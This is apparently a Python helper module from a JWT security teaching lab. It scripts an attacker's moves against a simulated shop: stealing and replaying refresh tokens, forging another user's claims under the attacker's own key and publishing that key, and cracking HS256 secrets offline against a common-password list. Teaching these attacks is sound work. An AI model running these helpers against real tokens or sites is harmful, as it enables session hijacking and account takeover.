"""Mallory's moves against tokens, a line or two each. Whole attacks are made of them."""

import importlib
import time
from typing import Any

import jwt

from labsrv.kit.browser.browser import Browser
from labsrv.kit.browser.response import Response
from labsrv.kit.keys import Key
from labsrv.kit.lessons.lab import Lab, Site
from labsrv.labs.jwt.by_hand import octets
from labsrv.labs.jwt.compact import hs256, jwk_of, key_pair, parts, peek_unverified, rs256
from labsrv.labs.jwt.people import join_club, refresh, sign_in, storage

HER_KEY = "mallory-1"
COOKIE = "__Host-refresh"


def copy_access_token(of: Browser) -> str:
    """Copy the access token that an app holds: from an unwatched computer, or by script on a page."""
    return str(storage(of)["access_token"])


def copy_refresh_token(of: Browser, shop: Site) -> str:
    """Copy the refresh token of an unwatched browser, wherever it keeps it."""
    kept = storage(of).get("refresh_token")
    found = [each.cookie.value for each in of.jar.cookies_for(shop.refresh) if each.cookie.name == COOKIE]
    return str(kept or (found or [""])[0])


def use_refresh_token(token: str, by: Browser, shop: Site) -> bool:
    """Show a copied refresh token to the shop, and keep the next one; tell whether the shop took it."""
    by.jar.clear()
    storage(by)["refresh_token"] = token
    answer = refresh(by, shop)
    if answer.ok:
        storage(by)["refresh_token"] = copy_refresh_token_from_answer(answer)
        by.jar.clear()
    return answer.ok


def copy_refresh_token_from_answer(answer: Response) -> str:
    """Return the refresh token of an answer, from its JSON or from its cookie."""
    said = (answer.exchange and answer.exchange.response_header("Set-Cookie")) or ""
    return str(answer.json().get("refresh_token") or said.partition(";")[0].partition("=")[2])


def edited(token: str, **claims: Any) -> tuple[dict[str, Any], dict[str, Any]]:
    """Return a token's header and claims, some of them replaced."""
    header, own = parts(token)
    return header, own | claims


def own_token(lab: Lab) -> str:
    """Let Mallory sign in as herself, and return her access token."""
    sign_in(lab.mallory, lab.shop)
    return copy_access_token(lab.mallory)


def signature_of(token: str) -> str:
    """Return the third part of a token."""
    return token.rpartition(".")[2]


def signed_by_mallory(lab: Lab, **header: Any) -> str:
    """Return Alice's claims under Mallory's signature, with a header of Mallory's choice."""
    said, claims = edited(own_token(lab), sub=lab.alice.person.name)
    return rs256({"alg": "RS256", "typ": said["typ"]} | header, claims, key_pair(HER_KEY))


def her_pem() -> str:
    """Return Mallory's own public key in PEM."""
    return Key(HER_KEY, key_pair(HER_KEY).public_key()).pem.decode()


def guess_secret(token: str) -> tuple[str | None, int]:
    """Sign with one common password after the other, offline, until the signature is that of the token.

    Returns the secret, or None, and how many were tried. The list is that of zxcvbn.
    """
    signed = token.rpartition(".")[0]
    header, payload = (octets(each) for each in signed.split("."))
    words = importlib.import_module("zxcvbn.frequency_lists").FREQUENCY_LISTS["passwords"]
    for tried, word in enumerate(words, 1):
        if hs256(header, payload, word.encode()) == token:
            return word, tried
    return None, len(words)


def guesses_per_second(token: str) -> float:
    """Return how many secrets this computer tries in a second of its own time."""
    began = time.perf_counter()
    _, tried = guess_secret(token.rpartition(".")[0] + ".AAAA")
    return tried / (time.perf_counter() - began)


def part_bytes(part: str) -> bytes:
    """Return the bytes of a part of a token."""
    octets = importlib.import_module("labsrv.labs.jwt.by_hand").octets
    return bytes(octets(part))


def alices_token(lab: Lab) -> str:
    """Let Alice sign in, and return a copy of her access token."""
    sign_in(lab.alice, lab.shop)
    return copy_access_token(lab.alice)


def from_the_club(lab: Lab, kind: str) -> str:
    """Let Alice join Mallory's club, and return a token that she showed there."""
    join_club(lab.alice, lab)
    return str(lab.db.joined.find()[-1][kind])


def publish_her_key(lab: Lab) -> str:
    """Put Mallory's key onto her site, and return its address."""
    url = lab.url("mallory", "/keys.json")
    lab.db.web.replace_one({"_id": url}, {"keys": [jwk_of(key_pair(HER_KEY)) | {"kid": HER_KEY}]}, upsert=True)
    return url


def public_pem(jwk: dict[str, str]) -> bytes:
    """Return a published key in PEM."""
    return Key(jwk["kid"], jwt.PyJWK(jwk).key).pem


def signed_by_shop(
    token: str, header: dict[str, Any] | None = None, without: tuple[str, ...] = (), **claims: Any
) -> str:
    """Return a token of the shop with some of it changed, and a signature of the shop over it: only the shop can.

    What is None in `header` is left out of it.
    """
    said, own = edited(token, **claims)
    kept = {name: value for name, value in own.items() if name not in without}
    changed = {name: value for name, value in (said | (header or {})).items() if value is not None}
    return rs256(changed, kept, key_pair(f"shop {said['kid']}"))


def last_header(lab: Lab) -> dict[str, Any]:
    """Return the header of the last token that somebody sent to the shop."""
    said = [each.request_header("Authorization") or "" for each in lab.traffic]
    return peek_unverified([each for each in said if each][-1].split()[-1])
